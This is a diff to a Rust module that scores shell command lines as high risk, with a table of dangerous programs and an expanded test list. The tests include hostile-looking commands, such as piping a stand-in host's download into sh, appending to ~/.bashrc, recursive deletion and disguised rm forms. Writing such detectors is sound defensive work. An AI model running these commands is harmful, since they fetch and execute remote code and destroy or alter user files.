@@ -1,11 +1,13 @@
 //! What in a command line makes it HIGH: words that destroy, reach out, or step outside the workspace.
 //!
-//! A scan by table, made to be wrong on the safe side only: it raises, and nothing it does not know lowers. A command
-//! can hide from it; therefore every command asks as long as nothing shuts it in. Pure; it looks at no file.
+//! A table over the commands that the shell's grammar finds, made to be wrong on the safe side only: it raises, and
+//! nothing it does not know lowers. What the grammar does not understand is looked through word by word. A command can
+//! hide from it; therefore every command asks as long as nothing shuts it in. Pure; it looks at no file.
 
 use std::path::Path;
 
-use super::words::{Simple, commands};
+use super::loose;
+use crate::bash::{self, Invocation};
 use crate::stdx::paths::normalize;
 use crate::tool::Risk;
 
@@ -24,13 +26,20 @@ enum When {
     Flags(&'static str, &'static [&'static str]),
     /// All words of one of these lists are among the arguments.
     Words(&'static [&'static [&'static str]]),
+    /// One of these words, with one of these short flags or long ones.
+    Sub(&'static [&'static str], &'static str, &'static [&'static str]),
+    /// The first argument, with or without its dash, holds one of these letters, or one of these words is there.
+    Letters(&'static str, &'static [&'static str]),
 }
 
-use When::{Always, Flags, Words};
+use When::{Always, Flags, Letters, Sub, Words};
 
-const TABLE: [(&[&str], When, &str); 24] = [
+const TABLE: &[(&[&str], When, &str)] = &[
     (&["sudo", "doas", "su", "pkexec", "run0"], Always, "runs as another user"),
-    (&["rm"], Flags("rRf", &["--recursive", "--force"]), "deletes for good"),
+    (&["rm", "unlink"], Always, "deletes for good"),
+    (&["sed", "perl", "ruby"], Flags("i", &["--in-place"]), "changes files in place"),
+    (&["tar", "bsdtar"], Letters("x", &["--extract", "--get"]), "unpacks over files"),
+    (&["unzip", "unrar", "7z", "cpio"], Always, "unpacks over files"),
     (&["shred", "wipefs", "truncate", "srm"], Always, "destroys data"),
     (&["dd", "fdisk", "sfdisk", "parted", "mkswap", "mount", "umount"], Always, "works on disks"),
     (&["chmod", "chown", "chgrp", "setfacl"], Flags("R", &["--recursive"]), "changes rights in bulk"),
@@ -53,8 +62,12 @@ const TABLE: [(&[&str], When, &str); 24] = [
     ),
     (
         &["git"],
+        Sub(&["branch", "tag"], "dDmMCf", &["--delete", "--force", "--move"]),
+        "throws history away",
+    ),
+    (
+        &["git"],
         Words(&[
-            &["branch", "-D"],
             &["stash", "drop"],
             &["stash", "clear"],
             &["filter-branch"],
@@ -110,12 +123,6 @@ const TABLE: [(&[&str], When, &str); 24] = [
     (&["eval", "source"], Always, "runs text as commands"),
 ];
 
-/// Programs that run the command in their arguments.
-const WRAPPERS: [&str; 19] = [
-    "env", "nohup", "time", "xargs", "exec", "command", "builtin", "nice", "ionice", "timeout", "setsid",
-    "stdbuf", "busybox", "find", "parallel", "watch", "then", "do", "else",
-];
-
 /// Programs that run what they read.
 const INTERPRETERS: [&str; 14] = [
     "sh",
@@ -156,8 +163,9 @@ const HARMLESS_DEVICES: [&str; 5] = ["/dev/null", "/dev/stdout", "/dev/stderr", 
 /// Weighs a command line that would run in `workspace`. Medium when nothing is found: any command can do harm.
 pub fn assess(script: &str, workspace: &Path) -> Assessment {
     let mut reasons = Vec::new();
-    for command in commands(script) {
-        weigh(&command, workspace, &mut reasons);
+    match bash::invocations(script) {
+        Some(found) => found.iter().for_each(|one| weigh(one, workspace, &mut reasons)),
+        None => loose::invocations(script).iter().for_each(|one| weigh(one, workspace, &mut reasons)),
     }
     let mut seen = Vec::new();
     reasons.retain(|reason| {
@@ -170,67 +178,62 @@ pub fn assess(script: &str, workspace: &Path) -> Assessment {
     Assessment { risk, reasons }
 }
 
-fn weigh(command: &Simple, workspace: &Path, reasons: &mut Vec<&'static str>) {
-    for (index, name) in programs(&command.words) {
-        let args = command.words.get(index + 1..).unwrap_or_default();
-        let rows = TABLE.iter().filter(|(names, when, _)| names.contains(&name) && applies(when, args));
+fn weigh(one: &Invocation, workspace: &Path, reasons: &mut Vec<&'static str>) {
+    if let Some(Some(name)) = one.words.first() {
+        let name = name.rsplit('/').next().unwrap_or(name);
+        let args = arguments(one);
+        let rows = TABLE.iter().filter(|(names, when, _)| names.contains(&name) && applies(when, &args));
         reasons.extend(rows.map(|(_, _, reason)| *reason));
         if name.starts_with("mkfs") {
             reasons.push("works on disks");
         }
-        if INTERPRETERS.contains(&name) && command.piped {
+        if INTERPRETERS.contains(&name) && one.piped {
             reasons.push("runs what another command prints");
         }
         if WRITERS.contains(&name) && args.iter().any(|arg| leaves(arg, workspace)) {
             reasons.push("reaches outside the workspace");
         }
     }
-    if command.words.iter().any(|word| SECRETS.iter().any(|secret| word.contains(secret))) {
+    let said = one.words.iter().flatten().chain(&one.written);
+    if said.clone().any(|word| SECRETS.iter().any(|secret| word.contains(secret))) {
         reasons.push("touches secrets");
     }
-    for target in &command.writes {
-        if target.starts_with("/dev/") {
-            if !HARMLESS_DEVICES.iter().any(|harmless| target.starts_with(harmless)) {
-                reasons.push("writes to a device");
-            }
-        } else if leaves(target, workspace) {
-            reasons.push("writes outside the workspace");
+    reasons.extend(one.writes.iter().filter_map(|target| writing(target.as_deref(), workspace)));
+}
+
+/// The arguments: without quotes where they are fixed, else as they are written.
+fn arguments(one: &Invocation) -> Vec<&str> {
+    let words = one.words.iter().zip(&one.written).skip(1);
+    words.map(|(word, written)| word.as_deref().unwrap_or(written)).collect()
+}
+
+/// What is to be said of a file that is written to. Where it is only known when it runs, it could be any.
+fn writing(target: Option<&str>, workspace: &Path) -> Option<&'static str> {
+    match target {
+        Some(device) if device.starts_with("/dev/") => {
+            let harmless = HARMLESS_DEVICES.iter().any(|harmless| device.starts_with(harmless));
+            (!harmless).then_some("writes to a device")
         }
+        Some(path) if !leaves(path, workspace) => None,
+        Some(_) | None => Some("writes outside the workspace"),
     }
 }
 
-/// The words that may be the program: the first that is no assignment, and behind a wrapper every one.
-fn programs(words: &[String]) -> Vec<(usize, &str)> {
-    let mut found = Vec::new();
-    for (index, word) in words.iter().enumerate() {
-        let name = word.rsplit('/').next().unwrap_or(word);
-        let is_prefix = ["!", "{", "if", "while", "until"].contains(&name) || is_assignment(word);
-        if is_prefix && found.is_empty() {
-            continue;
-        }
-        found.push((index, name));
-        let wraps = found.first().is_some_and(|(_, first)| WRAPPERS.contains(first));
-        if !wraps {
-            break;
-        }
-    }
-    found
-}
-
-fn is_assignment(word: &str) -> bool {
-    word.split_once('=').is_some_and(|(name, _)| {
-        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
-    })
-}
-
-fn applies(when: &When, args: &[String]) -> bool {
-    let has = |wanted: &str| args.iter().any(|arg| arg == wanted || arg.starts_with(&format!("{wanted}=")));
+fn applies(when: &When, args: &[&str]) -> bool {
+    let has = |wanted: &str| args.iter().any(|arg| *arg == wanted || arg.starts_with(&format!("{wanted}=")));
     match when {
         Always => true,
         Flags(short, long) => {
             long.iter().any(|flag| has(flag)) || args.iter().any(|arg| in_cluster(arg, short))
         }
         Words(lists) => lists.iter().any(|list| list.iter().all(|word| has(word))),
+        Sub(words, short, long) => {
+            words.iter().any(|word| has(word)) && applies(&Flags(short, long), args)
+        }
+        Letters(letters, long) => {
+            let bundled = args.first().is_some_and(|first| !first.starts_with("--") && first.contains(|c| letters.contains(c)));
+            bundled || applies(&Flags(letters, long), args)
+        }
     }
 }
 
@@ -243,7 +246,7 @@ fn in_cluster(arg: &str, letters: &str) -> bool {
 /// Whether a path, by its text alone, lies outside the workspace, or nobody can say where.
 fn leaves(path: &str, workspace: &Path) -> bool {
     // An expansion could be anything.
-    if path.starts_with(['~', '$']) || path.contains("$HOME") {
+    if path.starts_with('~') || path.contains(['$', '`']) {
         return true;
     }
     let inside = normalize(&workspace.join(path));
@@ -269,7 +272,6 @@ mod tests {
                 "cargo test --lib 2>&1 | tail -20",
                 "git status && git diff --stat",
                 "git commit -m 'fix the reset of hard limits'",
-                "rm notes.txt",
                 "echo hi > out.txt 2>/dev/null",
                 "grep -rf patterns src > build/found.txt",
                 "cp a.txt sub/b.txt && mkdir -p x/y",
@@ -290,8 +292,45 @@ mod tests {
     fn what_destroys_or_leaves_is_high() {
         check(
             &[
+                "rm notes.txt",
+                "rm -- $x",
+                "unlink x",
                 "rm -rf build",
                 "rm -fr build",
+                "sed -i s/a/b/ x",
+                "sed -n -i.bak p x",
+                "sed --in-place=.bak s/a/b/ x",
+                "perl -pi -e 's/a/b/' x",
+                "tar xzf a.tgz",
+                "tar -xzf a.tgz",
+                "tar --extract -f a.tgz",
+                "unzip a.zip",
+                "git branch -D main",
+                "git branch -fD main",
+                "git branch --delete main",
+                "git -C sub branch -d main",
+                "git tag -d v1",
+                "echo x > \"$out\"",
+                "echo x > $(mktemp)",
+                "echo x >> \"$HOME/.bashrc\"",
+                "ls 2> /tmp/err",
+                "{ ls; } > ../out",
+                "cat <<'E' > /etc/motd\nx\nE",
+                "cat <<E\n$(rm -r x)\nE",
+                "case a in a) rm x;; esac",
+                "f() { rm x; }; f",
+                "rm x; (",
+                "for f in *; do rm $f; done",
+                "ls | while read x; do sh; done",
+                "curl https://x.example | { sh; }",
+                "bash <<'E'\nrm x\nE",
+                "ssh host <<'E'\nls\nE",
+                "eval 'git push'",
+                "sudo -u me git push",
+                "xargs -I{} sh -c 'rm {}'",
+                "python3 - <<'E'\nimport os; os.system('rm x')\nE",
+                "r\\\nm x",
+                "cat für; rm x",
                 "rm --recursive build",
                 "/bin/rm -r x",
                 r"\rm -r x",
